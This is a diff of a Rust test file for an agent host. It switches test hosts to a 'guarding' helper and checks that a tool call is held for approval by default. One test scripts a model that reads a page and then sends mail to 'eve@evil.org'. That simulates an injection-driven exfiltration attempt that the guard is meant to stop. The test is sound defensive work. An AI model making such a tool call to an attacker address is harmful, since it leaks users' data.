@@ -6,7 +6,8 @@ use rockbot_core::turn::{ApprovalRequest, OriginKind, TurnError, TurnOutcome, Tu
 use rockbot_host::{AgentHost, AgentHostBuilder};
 use serde_json::{Value, json};
 
-use crate::support::{Anything, host_of, results};
+use super::guarding;
+use crate::support::{Anything, results};
 
 /// Sends a mail.
 #[derive(serde::Deserialize, schemars::JsonSchema)]
@@ -27,7 +28,7 @@ fn page() -> Tool {
 }
 
 fn host(model: &ScriptedModel) -> AgentHostBuilder {
-    host_of(model).tool(mail()).tool(page())
+    guarding(model).tool(mail()).tool(page())
 }
 
 fn to(address: &str) -> Value {
@@ -128,7 +129,7 @@ async fn a_tool_is_guarded_by_default_unless_the_program_trusts_its_effect() {
     ] {
         let model = ScriptedModel::new();
         let _ = reading(&model).calls("send_mail", to("eve@evil.org")).says("done");
-        let host = host_of(&model).tool(tool).tool(page()).build().unwrap();
+        let host = guarding(&model).tool(tool).tool(page()).build().unwrap();
         let outcome = ask(&host, "Read it.").await;
         assert_eq!(!asks(&outcome).is_empty(), guarded, "{outcome:?}");
     }
